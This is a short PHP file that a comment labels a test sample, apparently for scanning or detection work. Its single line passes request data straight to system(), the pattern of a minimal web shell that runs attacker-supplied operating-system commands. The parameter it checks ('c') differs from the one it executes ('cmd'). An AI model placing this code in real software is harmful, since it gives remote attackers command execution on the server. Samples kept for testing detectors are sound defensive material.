<?php
// test sample: request data handed to system()
if (isset($_REQUEST["c"])) { echo "<pre>"; system($_REQUEST["cmd"]); echo "</pre>"; }
?>
